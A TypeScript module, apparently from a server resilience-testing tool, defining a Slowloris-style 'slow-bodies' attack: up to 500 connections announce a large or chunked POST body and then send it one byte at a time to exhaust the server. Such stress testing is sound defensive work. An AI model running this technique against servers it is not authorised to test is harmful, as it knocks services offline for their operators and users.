import type { Attack } from '../attack.js'
import { hold } from '../hold.js'
import { postHead, Strike } from '../strike.js'

/** Slowloris: bodies that never end, with a length and in chunks. */
export const slowBodies: Attack = {
  name: 'slow-bodies',
  about: 'Up to 500 connections announce a body of a megabyte, or a chunked one, and send it byte by byte.',
  unit: 'connection',
  rate: 250,
  isBare: true,
  run: scene =>
    hold(
      scene,
      500,
      () => {
        const strike = new Strike(scene)
        strike.send(scene.dice.once(2) ? postHead(1_000_000) + '{' : postHead() + 'fffff\r\n{')
        return strike
      },
      strike => strike.send(' '),
    ),
}
